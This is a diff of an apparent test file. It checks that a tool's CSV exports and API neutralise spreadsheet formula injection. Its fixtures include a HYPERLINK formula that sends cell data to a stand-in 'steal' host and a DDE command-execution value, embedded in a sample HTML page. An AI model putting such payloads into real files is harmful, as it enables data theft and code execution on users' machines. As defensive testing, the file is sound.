@@ -27,10 +27,23 @@ function assertNeutral(csv: string, what: string): void {
 
 describe('CSV cells that a spreadsheet would run', () => {
   it('are written with a leading quote; numbers, negative ones too, are written as numbers', () => {
-    const hostile = ['=HYPERLINK("http://x.example/?"&A1,"Click")', '+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)', '\t=1', '\r=1', '＝1+1', 'Astana, 12 April', 'say "hi"'];
-    const [header, row] = cells(toCsv(['a', 'b', 'c', 'd', 'e', 'f', 'g', 'h', 'i', 'n', 'm', 'yes'], [
-      Object.fromEntries([...hostile.map((h, i) => ['abcdefghi'[i]!, h]), ['n', -365.5], ['m', 0], ['yes', true]]),
-    ]));
+    const hostile = [
+      '=HYPERLINK("http://x.example/?"&A1,"Click")',
+      "+cmd|' /C calc'!A0",
+      '-2+3',
+      '@SUM(A1:A9)',
+      '\t=1',
+      '\r=1',
+      '＝1+1',
+      'Astana, 12 April',
+      'say "hi"',
+    ];
+    const [header, row] = cells(
+      toCsv(
+        ['a', 'b', 'c', 'd', 'e', 'f', 'g', 'h', 'i', 'n', 'm', 'yes'],
+        [Object.fromEntries([...hostile.map((h, i) => ['abcdefghi'[i]!, h]), ['n', -365.5], ['m', 0], ['yes', true]])],
+      ),
+    );
     assert.deepEqual(header, ['a', 'b', 'c', 'd', 'e', 'f', 'g', 'h', 'i', 'n', 'm', 'yes']);
     assert.deepEqual(row, [...hostile.map((h) => (FORMULA_START.test(h) ? `'${h}` : h)), '-365.5', '0', 'true']);
     // A date with no year is text: a spreadsheet would compute --05-28 as -23.
@@ -43,16 +56,19 @@ describe('CSV cells that a spreadsheet would run', () => {
     let store: Store;
     let server: RunningServer;
     const title = '=HYPERLINK("http://x.example/steal?"&A1,"Open")';
-    const publisher = '+cmd|\' /C calc\'!A0';
+    const publisher = "+cmd|' /C calc'!A0";
     before(async () => {
       dir = mkdtempSync(join(tmpdir(), 'readout-csv-'));
       db = join(dir, 'corpus.db');
       const docs = join(dir, 'docs');
       mkdirSync(docs);
-      writeFileSync(join(docs, '@evil.html'), `<!doctype html><html><head><title>${title.replace(/&/g, '&amp;').replace(/"/g, '&quot;')}</title><meta property="og:site_name" content="${publisher}"></head><body><article>
+      writeFileSync(
+        join(docs, '@evil.html'),
+        `<!doctype html><html><head><title>${title.replace(/&/g, '&amp;').replace(/"/g, '&quot;')}</title><meta property="og:site_name" content="${publisher}"></head><body><article>
         <p>ASTANA, 12 April 2024. President of Kazakhstan Kassym-Jomart Tokayev held talks with Prime Minister of Hungary Viktor Orbán in Astana on 12 April 2024.</p>
         <p>The sides signed the =SUM(1+1) Agreement on cooperation in agriculture. Trade turnover between Kazakhstan and Hungary reached $365 million in 2023.</p>
-      </article></body></html>`);
+      </article></body></html>`,
+      );
       const ingest = await cli(['ingest', docs, '--db', db, '--root', docs, '--workers', '1']);
       assert.equal(ingest.code, 0, ingest.stderr);
       store = await openStore(db);
@@ -84,13 +100,17 @@ describe('CSV cells that a spreadsheet would run', () => {
       }
     });
 
-    it('the API\'s ?format=csv', async () => {
+    it("the API's ?format=csv", async () => {
       for (const list of ['events', 'agreements', 'trade', 'people', 'documents']) {
         const response = await fetch(new URL(`/api/${list}?format=csv`, server.url));
         assert.equal(response.status, 200, list);
         const text = await response.text();
         assertNeutral(text, `/api/${list}`);
-        if (list === 'documents') assert.ok(cells(text).some((row) => row.includes(`'${title}`)), 'the title, quoted');
+        if (list === 'documents')
+          assert.ok(
+            cells(text).some((row) => row.includes(`'${title}`)),
+            'the title, quoted',
+          );
       }
     });
   });
